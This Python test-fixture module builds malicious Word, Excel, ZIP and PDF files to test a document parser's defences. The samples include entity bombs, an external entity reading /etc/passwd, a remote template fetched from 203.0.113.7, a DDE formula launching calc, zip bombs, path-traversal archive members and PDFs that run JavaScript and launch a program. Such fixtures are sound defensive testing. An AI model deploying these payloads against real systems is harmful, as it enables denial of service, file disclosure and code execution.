"""Files built to exhaust, to lead out or to run something; each is small to make."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterable
from pathlib import Path

from tests.formats.word import NAMESPACES, docx, package, para

Make = Callable[[Path], None]
_TEXT = "全年排查矛盾纠纷42件，化解40件。"
_MEG = 2**20


def _word(path: Path, inner: Iterable[str], *, before: str = "") -> None:
    """A Word file whose main part is written piece by piece."""
    shell = docx(para("壳"))
    with (
        zipfile.ZipFile(io.BytesIO(shell)) as source,
        zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for name in source.namelist():
            if name != "word/document.xml":
                target.writestr(name, source.read(name))
        with target.open("word/document.xml", "w", force_zip64=True) as part:
            part.write(f"{before}<w:document {NAMESPACES}><w:body>".encode())
            for piece in inner:
                part.write(piece.encode())
            part.write(b"</w:body></w:document>")


def _varied(count: int, make: Callable[[int], str], block: int = 1000) -> Iterable[str]:
    """Pieces that do not pack so well that the zip's ratio gives them away."""
    for start in range(0, count, block):
        yield "".join(make(n) for n in range(start, min(start + block, count)))


def paragraphs(count: int) -> Make:
    """A Word file of so many paragraphs."""
    return lambda path: _word(path, _varied(count, lambda n: para(f"第{n}段，{_TEXT}")))


def empty_paragraphs(count: int) -> Make:
    """A tree of nothing but elements."""
    return lambda path: _word(path, _varied(count, lambda n: f'<w:p w:a="{n * 7919 % 99991}"/>'))


def attributes(count: int, after: str = "") -> Make:
    """One element with endless attributes."""

    def make(path: Path) -> None:
        _word(path, ["<w:p ", *_varied(count, lambda n: f'a{n}="{n * 31}" '), "/>", after])

    return make


def nested(opened: str, closed: str, depth: int) -> Make:
    """Elements in elements."""
    return lambda path: _word(path, [opened * depth, para(_TEXT), closed * depth])


def long_run(chars: int) -> Make:
    """One run of so many characters."""
    blocks = (f"{n:07d}{_TEXT}" * 500 for n in range(chars // 13_000 + 1))
    return lambda path: _word(path, ["<w:p><w:r><w:t>", *blocks, "</w:t></w:r></w:p>"])


def wide_table(cells: int) -> Make:
    """One row of endless cells."""

    def make(path: Path) -> None:
        row = _varied(cells, lambda n: f"<w:tc><w:p><w:r><w:t>{n}</w:t></w:r></w:p></w:tc>")
        _word(path, ["<w:tbl><w:tr>", *row, "</w:tr></w:tbl>"])

    return make


def style_circle(path: Path) -> None:
    """Styles each based on the next, ten thousand of them, in a circle."""
    styles = "".join(
        f'<w:style w:styleId="s{n}"><w:basedOn w:val="s{(n + 1) % 10_000}"/></w:style>'
        for n in range(10_000)
    )
    body = para(_TEXT, '<w:pStyle w:val="s0"/>') * 500
    path.write_bytes(docx(body, styles=styles))


def laughing(path: Path) -> None:
    """Entities of entities of entities."""
    entities = '<!ENTITY a0 "哈">' + "".join(
        f'<!ENTITY a{n + 1} "{f"&a{n};" * 10}">' for n in range(9)
    )
    _word(path, [para("<w:r><w:t>&a9;</w:t></w:r>")], before=f"<!DOCTYPE x [{entities}]>")


def swollen(path: Path) -> None:
    """One long entity, many times over."""
    entity = f'<!DOCTYPE x [<!ENTITY a "{"哈" * 50_000}">]>'
    _word(path, [para("<w:r><w:t>" + "&a;" * 5000 + "</w:t></w:r>")], before=entity)


def outside_entity(path: Path) -> None:
    """An entity that names a file of this machine."""
    head = '<!DOCTYPE x [<!ENTITY s SYSTEM "file:///etc/passwd">]>'
    _word(path, [para("<w:r><w:t>&s;</w:t></w:r>")], before=head)


def outside_dtd(path: Path) -> None:
    """A document type on another machine."""
    head = '<!DOCTYPE w:document SYSTEM "http://203.0.113.7/x.dtd">'
    _word(path, [para(_TEXT)], before=head)


def macro_word(path: Path) -> None:
    """A Word file with a macro project, an embedded object and a linked template."""
    with zipfile.ZipFile(io.BytesIO(docx(para(_TEXT) * 3))) as source:
        members: dict[str, str | bytes] = {n: source.read(n) for n in source.namelist()}
    types = str(members["[Content_Types].xml"], "utf-8")  # type: ignore[arg-type]
    members["[Content_Types].xml"] = types.replace(
        "wordprocessingml.document.main+xml", "ms-word.document.macroEnabled.main+xml"
    ).replace("vnd.openxmlformats-officedocument.ms-word", "vnd.ms-word")
    members["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1Sub AutoOpen()" * 20
    members["word/embeddings/oleObject1.bin"] = b"MZ" * 500
    members["word/_rels/settings.xml.rels"] = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="r" TargetMode="External" Target="http://203.0.113.7/evil.dotm" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'attachedTemplate"/></Relationships>'
    )
    path.write_bytes(package(members))


# --- workbooks -----------------------------------------------------------------------------

_SHEET = '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
_RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _book(path: Path, pieces: Iterable[str], shared: Iterable[str] = ()) -> None:
    main = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    members = {
        "[Content_Types].xml": (
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" '
            'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            f'<Override PartName="/xl/workbook.xml" ContentType="{main}.sheet.main+xml"/>'
            f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{main}.worksheet+xml"/>'
            f'<Override PartName="/xl/sharedStrings.xml" ContentType="{main}.sharedStrings+xml"/>'
            "</Types>"
        ),
        "_rels/.rels": (
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="r1" Type="{_RELS}/officeDocument" Target="xl/workbook.xml"/>'
            "</Relationships>"
        ),
        "xl/workbook.xml": (
            '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
            f'xmlns:r="{_RELS}"><sheets><sheet name="表" sheetId="1" r:id="rId1"/></sheets>'
            "</workbook>"
        ),
        "xl/_rels/workbook.xml.rels": (
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="rId1" Type="{_RELS}/worksheet" Target="worksheets/sheet1.xml"/>'
            f'<Relationship Id="rId2" Type="{_RELS}/sharedStrings" Target="sharedStrings.xml"/>'
            "</Relationships>"
        ),
    }
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in members.items():
            archive.writestr(name, text)
        with archive.open("xl/sharedStrings.xml", "w", force_zip64=True) as part:
            part.write(b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">')
            for piece in shared:
                part.write(piece.encode())
            part.write(b"</sst>")
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as part:
            part.write(_SHEET.encode())
            for piece in pieces:
                part.write(piece.encode())
            part.write(b"</sheetData></worksheet>")


def cells(rows: int, columns: int) -> Make:
    """A sheet of numbers."""

    def row(number: int) -> str:
        inner = "".join(f"<c><v>{number * 31 + c}</v></c>" for c in range(columns))
        return f'<row r="{number + 1}">{inner}</row>'

    return lambda path: _book(path, _varied(rows, row, 100))


def crowded_cell(count: int) -> Make:
    """One cell with endless attributes."""

    def make(path: Path) -> None:
        own = _varied(count, lambda n: f'a{n}="{n}" ')
        _book(path, ['<row r="1"><c ', *own, "><v>1</v></c></row>"])

    return make


def strings(count: int) -> Make:
    """A table of shared strings that no cell asks for."""

    def make(path: Path) -> None:
        texts = _varied(count, lambda n: f"<si><t>{n * 7919}</t></si>")
        _book(path, ['<row r="1"><c><v>1</v></c></row>'], texts)

    return make


def far_cell(path: Path) -> None:
    """Two cells as far apart as a sheet goes: what lies between is not there."""
    _book(
        path,
        [
            '<row r="1"><c r="A1"><v>1</v></c></row>',
            '<row r="1048576"><c r="XFD1048576"><v>2</v></c></row>',
        ],
    )


def macro_book(path: Path) -> None:
    """A workbook with a macro project, an outside link and a dynamic-data formula."""
    cell = '<c t="str"><f>cmd|\' /c calc\'!A0</f><v>单位</v></c><c t="str"><v>云渡镇</v></c>'
    year = '<c t="str"><v>年度</v></c><c><v>2025</v></c>'
    fact = '<c t="str"><v>要点</v></c>'
    told = '<c t="str"><v>消防演练6场</v></c>'
    _book(path, [f"<row>{cell}</row><row>{year}</row><row>{fact}</row><row>{told}</row>"])
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" * 30)


# --- archives ------------------------------------------------------------------------------


def zeros(path: Path) -> None:
    """A gigabyte of nothing in a megabyte."""
    with (
        zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive,
        archive.open("a.txt", "w", force_zip64=True) as part,
    ):
        for _ in range(1024):
            part.write(bytes(_MEG))


def nested_zips(path: Path) -> None:
    """Zips in zips, ten in each, five deep, a megabyte of blanks at the bottom."""
    data = b" " * _MEG
    name = "a.txt"
    for _ in range(5):
        data, name = package({f"{n}{name}": data for n in range(10)}), ".zip"
    path.write_bytes(data)


def overlapping(path: Path) -> None:
    """Two thousand entries of the directory that all point at the same packed data."""
    body = ("平安建设" * 200_000).encode()
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = packer.compress(body) + packer.flush()
    crc = zlib.crc32(body)
    local = struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0x800, 8, 0, 33, crc, len(packed),
                        len(body), 5, 0) + b"a.txt"  # fmt: skip
    entries = b""
    count = 2000
    for number in range(count):
        name = f"{number:04d}.txt".encode()
        sizes = (crc, len(packed), len(body), len(name))
        head = struct.pack("<4s6H3LH", b"PK\x01\x02", 20, 20, 0x800, 8, 0, 33, *sizes)
        entries += head + struct.pack("<4H2L", 0, 0, 0, 0, 0, 0) + name
    start = len(local) + len(packed)
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, len(entries), start, 0)
    path.write_bytes(local + packed + entries + end)


def leading_out(path: Path) -> None:
    """Members whose names lead out of the archive, and a link to a file of this machine."""
    with zipfile.ZipFile(path, "w") as archive:
        for name in ("../../../tmp/pingan_out.txt", "/etc/cron.d/x.txt", "..\\..\\x.txt",
                     "C:\\Windows\\x.txt", "好/../../x.txt"):  # fmt: skip
            archive.writestr(zipfile.ZipInfo(name), _TEXT)
        link = zipfile.ZipInfo("链接.txt")
        link.create_system = 3
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
        archive.writestr("好.txt", _TEXT * 20)


def crowded(path: Path) -> None:
    """A hundred thousand empty members."""
    with zipfile.ZipFile(path, "w") as archive:
        for number in range(100_000):
            archive.writestr(zipfile.ZipInfo(f"{number}.txt"), b"")


# --- text ----------------------------------------------------------------------------------


def repeated(unit: bytes, megabytes: int) -> Make:
    """A text of so many megabytes."""

    def make(path: Path) -> None:
        block = unit * (_MEG // len(unit))
        with path.open("wb") as file:
            for _ in range(megabytes):
                file.write(block)

    return make


# --- PDF -----------------------------------------------------------------------------------


def _pdf(objects: dict[int, bytes], *, trailer: bytes = b"") -> bytes:
    out = bytearray(b"%PDF-1.7\n")
    places: dict[int, int] = {}
    for number, body in objects.items():
        places[number] = len(out)
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    start = len(out)
    last = max(objects) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % last
    for number in range(1, last):
        out += b"%010d 00000 n \n" % places.get(number, 0)
    out += b"trailer\n<</Root 1 0 R /Size %d %s>>\nstartxref\n%d\n%%%%EOF" % (last, trailer, start)
    return bytes(out)


def _stream(data: bytes, extra: bytes = b"", *, is_packed: bool = False) -> bytes:
    if is_packed:
        data, extra = zlib.compress(data, 9), extra + b"/Filter/FlateDecode"
    return b"<<%s/Length %d>>stream\n%s\nendstream" % (extra, len(data), data)


_FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
_HELLO = b"BT /F 12 Tf 50 700 Td (page of the report, 42 cases) Tj ET\n"
_CATALOG = b"<</Type/Catalog/Pages 2 0 R>>"
_ONE_PAGE = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"


def _page(resources: bytes = b"/Font<</F 4 0 R>>", contents: bytes = b"5 0 R") -> bytes:
    return b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Resources<<%s>>/Contents %s>>" % (
        resources,
        contents,
    )


def _plain_pdf(content: bytes, **extra: bytes) -> dict[int, bytes]:
    objects = {1: _CATALOG, 2: _ONE_PAGE, 3: _page(), 4: _FONT, 5: _stream(content)}
    return objects | {int(k[1:]): v for k, v in extra.items()}


def circular_pages(path: Path) -> None:
    """A page tree whose branches are their own ancestors."""
    objects = _plain_pdf(_HELLO)
    objects[2] = b"<</Type/Pages/Kids[6 0 R 6 0 R 3 0 R]/Count 9>>"
    objects[6] = b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 9/Parent 2 0 R>>"
    path.write_bytes(_pdf(objects))


def doubling_pages(path: Path) -> None:
    """A page tree in which each branch names the next one ten times: 10^12 pages."""
    objects = _plain_pdf(_HELLO)
    objects[2] = b"<</Type/Pages/Kids[" + b"6 0 R " * 10 + b"]/Count 1000000000000>>"
    for level in range(6, 17):
        objects[level] = b"<</Type/Pages/Kids[" + b"%d 0 R " % (level + 1) * 10 + b"]/Count 10>>"
    objects[17] = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
    path.write_bytes(_pdf(objects))


def deep_pages(path: Path) -> None:
    """A page tree a hundred thousand levels deep."""
    objects = _plain_pdf(_HELLO)
    objects[2] = b"<</Type/Pages/Kids[6 0 R]/Count 1>>"
    for level in range(6, 30_000):
        objects[level] = b"<</Type/Pages/Kids[%d 0 R]/Count 1>>" % (level + 1)
    objects[30_000] = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
    path.write_bytes(_pdf(objects))


def huge_xref(path: Path) -> None:
    """A cross-reference table that claims two thousand million entries, and one that has many."""
    data = _pdf(_plain_pdf(_HELLO))
    path.write_bytes(data.replace(b"xref\n0 6", b"xref\n0 2000000000", 1))


def long_xref(path: Path) -> None:
    """A cross-reference table of a million entries."""
    objects = _plain_pdf(_HELLO)
    out = bytearray(_pdf(objects))
    at = out.index(b"xref\n0 6")
    table = b"".join(b"%010d 00000 n \n" % (n % 900) for n in range(1_000_000))
    tail = b"trailer\n<</Root 1 0 R/Size 1000000>>\nstartxref\n%d\n%%%%EOF" % at
    path.write_bytes(bytes(out[:at]) + b"xref\n0 1000000\n" + table + tail)


def packed_xref(path: Path) -> None:
    """A packed cross-reference stream of two million entries."""
    out = bytearray(_pdf(_plain_pdf(_HELLO)))
    at = len(out)
    table = b"".join(b"\1" + bytes([n % 200]) + b"\0" for n in range(2_500_000))
    head = b"/Type/XRef/Root 1 0 R/Size 2500000/W[1 1 1]"
    out += b"\n9 0 obj\n" + _stream(table, head, is_packed=True) + b"\nendobj\n"
    out += b"startxref\n%d\n%%%%EOF" % (at + 1)
    path.write_bytes(bytes(out))


def tiny_objects(path: Path) -> None:
    """A file of nothing but objects, without a table that tells where they are."""
    objects = b"".join(b"%d 0 obj\n1\nendobj\n" % n for n in range(10, 1_000_000))
    path.write_bytes(b"%PDF-1.7\n" + objects + b"1 0 obj\n<<>>\nendobj\n%%EOF")


def xref_circle(path: Path) -> None:
    """A cross-reference table that goes on in itself."""
    data = _pdf(_plain_pdf(_HELLO))
    at = data.index(b"xref\n0")
    path.write_bytes(data.replace(b"/Root", b"/Prev %d /Root" % at, 1))


def content_bomb(path: Path) -> None:
    """A packed page of seventy megabytes of drawing operators."""
    objects = _plain_pdf(b"")
    objects[5] = _stream(_HELLO + b"q Q " * 18_000_000, is_packed=True)
    path.write_bytes(_pdf(objects))


def packed_twice(path: Path) -> None:
    """A page packed three times over."""
    data = zlib.compress(zlib.compress(zlib.compress(bytes(300 * _MEG), 9), 9), 9)
    objects = _plain_pdf(b"")
    head = b"<</Filter[/FlateDecode/FlateDecode/FlateDecode]/Length %d>>" % len(data)
    objects[5] = head + b"stream\n" + data + b"\nendstream"
    path.write_bytes(_pdf(objects))


def many_texts(path: Path) -> None:
    """A page that says the same word half a million times."""
    objects = _plain_pdf(b"")
    words = b"BT /F 12 Tf 50 700 Td " + b"(aaaa) Tj 1 -1 Td " * 500_000 + b"ET"
    objects[5] = _stream(words, is_packed=True)
    path.write_bytes(_pdf(objects))


def doubling_forms(path: Path) -> None:
    """Forms that each draw the next one twice, thirty deep."""
    objects = _plain_pdf(_HELLO + b"/X Do /X Do")
    objects[3] = _page(b"/Font<</F 4 0 R>>/XObject<</X 6 0 R>>")
    for level in range(6, 37):
        head = b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]"
        head += b"/Resources<</Font<</F 4 0 R>>/XObject<</X %d 0 R>>>>" % (level + 1)
        objects[level] = _stream(_HELLO + b"/X Do /X Do", head)
    path.write_bytes(_pdf(objects))


def many_pages(count: int) -> Make:
    """So many pages, all of one content."""

    def make(path: Path) -> None:
        objects = _plain_pdf(_HELLO)
        first = 10
        kids = b" ".join(b"%d 0 R" % (first + n) for n in range(count))
        objects[2] = b"<</Type/Pages/Kids[%s]/Count %d>>" % (kids, count)
        for number in range(count):
            objects[first + number] = _page()
        path.write_bytes(_pdf(objects))

    return make


def script_pdf(path: Path) -> None:
    """A PDF that would run a script and start a program when it is opened."""
    objects = _plain_pdf(_HELLO * 3)
    objects[1] = (
        b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>"
        b"/AA<</WC<</S/Launch/F(calc.exe)>>>>/Names<</JavaScript<</Names[(a)6 0 R]>>>>>>"
    )
    objects[6] = b"<</S/JavaScript/JS(while\\(true\\){})>>"
    path.write_bytes(_pdf(objects))


def locked_pdf(path: Path) -> None:
    """A PDF that asks for a password."""
    import pypdf

    source = pypdf.PdfReader(io.BytesIO(_pdf(_plain_pdf(_HELLO))))
    writer = pypdf.PdfWriter(clone_from=source)
    writer.encrypt("secret", algorithm="RC4-128")
    with path.open("wb") as file:
        writer.write(file)


def code_map(path: Path) -> None:
    """A font whose code map spans everything, many times over."""
    objects = _plain_pdf(_HELLO)
    objects[4] = b"<</Type/Font/Subtype/Type0/BaseFont/A/Encoding/Identity-H/ToUnicode 6 0 R>>"
    ranges = b"1 beginbfrange\n<0000> <FFFF> <0000>\nendbfrange\n" * 3000
    objects[6] = _stream(b"begincmap\n" + ranges + b"endcmap", is_packed=True)
    path.write_bytes(_pdf(objects))


def deep_arrays(path: Path) -> None:
    """Brackets in brackets, in the page and in the file."""
    objects = _plain_pdf(_HELLO + b"[" * 100_000 + b"]" * 100_000 + b" TJ")
    objects[6] = b"[" * 100_000 + b"]" * 100_000
    objects[1] = b"<</Type/Catalog/Pages 2 0 R/X 6 0 R>>"
    path.write_bytes(_pdf(objects))


def halves(codes: str) -> Make:
    """A page whose font maps each glyph to one UTF-16 unit, so also to half a character."""

    def make(path: Path) -> None:
        lines = b"".join(b"<%04X><%b>\n" % (n, c.encode()) for n, c in enumerate(codes.split(), 1))
        count = len(codes.split())
        shown = b"".join(b"%04X" % n for n in range(1, count + 1))
        objects = _plain_pdf(b"BT /F 12 Tf 50 700 Td <%b> Tj ET\n" % shown)
        objects[4] = b"<</Type/Font/Subtype/Type0/BaseFont/A/Encoding/Identity-H/ToUnicode 6 0 R>>"
        head = b"begincmap\n1 begincodespacerange\n<0000><FFFF>\nendcodespacerange\n"
        objects[6] = _stream(head + b"%d beginbfchar\n%bendbfchar\nendcmap" % (count, lines))
        path.write_bytes(_pdf(objects))

    return make


def full_attributes(count: int, each: int) -> Make:
    """So many elements, each with as many attributes as may be."""

    def element(number: int) -> str:
        return "<w:p " + " ".join(f'w:a{number}x{n}="{n}"' for n in range(each)) + "/>"

    return lambda path: _word(path, [*_varied(count, element, 100), para(_TEXT)])
